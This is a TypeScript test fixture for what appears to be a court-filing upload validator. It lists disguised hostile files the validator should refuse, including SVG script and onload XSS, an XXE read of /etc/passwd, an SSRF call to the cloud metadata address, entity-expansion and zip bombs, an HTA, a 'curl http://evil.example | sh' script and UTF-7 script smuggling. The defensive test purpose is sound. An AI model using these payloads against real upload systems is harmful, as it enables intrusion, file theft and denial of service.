import { gzipSync } from 'node:zlib'
import { buildZip } from '@court/adapters/files/hostile-files'
import sharp from 'sharp'
import { refused, type HostileFile } from './hostile-file.ts'

const wrong = (name: string, fileName: string, body: Parameters<typeof refused>[3]) =>
  refused(name, fileName, 'file.wrong-type', body)
const bytes = (head: string, length = 600) => {
  const body = Buffer.alloc(length)
  body.write(head, 'latin1')
  return body
}
const svg = (inner: string) => `<?xml version="1.0"?>${inner}`
const flat = () => sharp({ create: { width: 8, height: 8, channels: 3, background: '#abc' } })

export const hostileOthers: HostileFile[] = [
  wrong('a page with a script', 'complaint.pdf', () => '<!doctype html><script>fetch("/api")</script>'),
  wrong(
    'an SVG that runs when it loads',
    'seal.png',
    () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  ),
  wrong('an SVG with a script element', 'seal.svg', () =>
    svg('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  ),
  wrong('an SVG that reads a file of the server (XXE)', 'seal.svg', () =>
    svg(
      '<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    ),
  ),
  wrong('an SVG that calls another site', 'seal.svg', () =>
    svg('<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/latest/"/></svg>'),
  ),
  wrong('an SVG packed (svgz)', 'seal.jpg', () =>
    gzipSync('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  ),
  wrong('an XML that grows without end', 'evidence.docx', () =>
    svg(
      `<!DOCTYPE l [<!ENTITY a "lol">${'bcdefghi'.replace(/./g, (n, at: number) => `<!ENTITY ${n} "${`&${'abcdefgh'[at] ?? 'a'};`.repeat(10)}">`)}]><l>&i;</l>`,
    ),
  ),
  wrong(
    'a saved web page (MHTML)',
    'page.docx',
    () =>
      'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<script>1</script>',
  ),
  wrong(
    'an HTML application',
    'order.hta.pdf',
    () => '<HTA:APPLICATION id="x"/><script language="VBScript">CreateObject("WScript.Shell")</script>',
  ),
  wrong('an old Word document with macros (OLE)', 'complaint.doc', () =>
    bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 4096),
  ),
  wrong(
    'an RTF with an object',
    'complaint.docx',
    () => '{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}}',
  ),
  wrong('a program for Windows', 'photo.jpg', () => bytes('MZ\x90\0')),
  wrong('a program for Linux', 'scan.png', () => bytes('\x7fELF\x02\x01\x01')),
  wrong('a shortcut to a program', 'complaint.pdf.lnk', () => bytes('L\0\0\0\x01\x14\x02\0')),
  wrong('a shell script', 'evidence.pdf', () => '#!/bin/sh\ncurl http://evil.example | sh\n'),
  wrong(
    'PostScript that reads files',
    'scan.eps',
    () => '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file 100 string readstring pop ==\n',
  ),
  wrong('a Windows metafile', 'scan.wmf', () => bytes('\xd7\xcd\xc6\x9a')),
  wrong('a picture of many pages (TIFF)', 'scan.tif', () => flat().tiff().toBuffer()),
  wrong('a moving picture (GIF)', 'scan.gif', () => flat().gif().toBuffer()),
  wrong('a WebP', 'scan.webp', () => flat().webp().toBuffer()),
  refused('a photo in HEIF', 'IMG_0003.HEIC', 'file.heic', () => flat().avif().toBuffer()),
  wrong('a zip of zips', 'evidence.zip', () =>
    buildZip(
      Array.from({ length: 16 }, (_, n) => ({
        name: `${n}.zip`,
        text: buildZip([{ name: 'z', text: Buffer.alloc(1_000_000) }]),
      })),
    ),
  ),
  wrong('a spreadsheet with macros', 'evidence.docx', () =>
    buildZip([
      { name: '[Content_Types].xml', text: '<Types/>' },
      { name: 'xl/vbaProject.bin', text: 'x' },
    ]),
  ),
  wrong(
    'a test signature of virus scanners',
    'eicar.jpg',
    () => 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
  ),
  wrong('a text in UTF-7 that becomes markup', 'a.pdf', () => '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  refused('nothing at all', 'evidence.jpg', 'file.empty', () => ''),
]
